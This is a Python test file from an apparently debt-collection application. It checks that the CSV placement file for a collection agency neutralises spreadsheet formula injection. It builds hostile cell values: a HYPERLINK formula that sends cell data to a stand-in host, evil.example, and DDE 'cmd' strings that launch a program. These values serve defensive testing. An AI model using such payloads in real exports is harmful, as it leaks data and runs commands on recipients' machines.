"""The agency's placement file goes through the one CSV writer: a debtor or contact
named like a formula comes out as text; phone numbers and amounts stay as they are."""

import csv
import io
from datetime import date
from decimal import Decimal

from sqlalchemy.orm import Session

from recoup.cases import agency
from recoup.ledger import service as ledger
from tests.factories import make_invoice, make_org


def test_the_placement_file_neutralises_formulas(session: Session) -> None:
    org = make_org(session)
    debtor = ledger.create_customer(
        session,
        org_id=org.id,
        external_id="C1",
        name='=HYPERLINK("http://evil.example/?"&A1,"Open")',
        currency="EUR",
    )
    debtor.address = "@SUM(1+1)*cmd|' /C calc'!A0"
    ledger.add_contact(
        session,
        org_id=org.id,
        customer_id=debtor.id,
        name="+cmd|' /C calc'!A0",
        email="ap@debtor.example",
        phone="+44 113 000 0001",
    )
    invoice = make_invoice(
        session,
        customer=debtor,
        number="-2+3+cmd|' /C calc'!A0",
        total="300.00",
        issue_date=date(2025, 10, 1),
        due_date=date(2025, 10, 31),
    )
    handoff = agency.request_handoff(
        session,
        org_id=org.id,
        customer_id=debtor.id,
        invoice_ids=[invoice.id],
        agency="Debt Hunters Ltd",
        requested_by="kim",
        on=date(2026, 3, 1),
    )
    agency.approve_handoff(
        session,
        org_id=org.id,
        handoff_id=handoff.id,
        approver="max@acme.example",
        approver_role="manager",
        on=date(2026, 3, 2),
        commission_rate=Decimal("0.25"),
        processor_agreement="DPA-2026-07",
    )

    (row,) = csv.DictReader(io.StringIO(handoff.placement_csv))

    assert row["customer_name"] == '\'=HYPERLINK("http://evil.example/?"&A1,"Open")'
    assert row["address"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
    assert row["contact_name"] == "'+cmd|' /C calc'!A0"
    assert row["invoice"] == "'-2+3+cmd|' /C calc'!A0"
    assert (row["contact_phone"], row["total"], row["days_past_due"]) == (
        "+44 113 000 0001",
        "300.00",
        "122",
    )
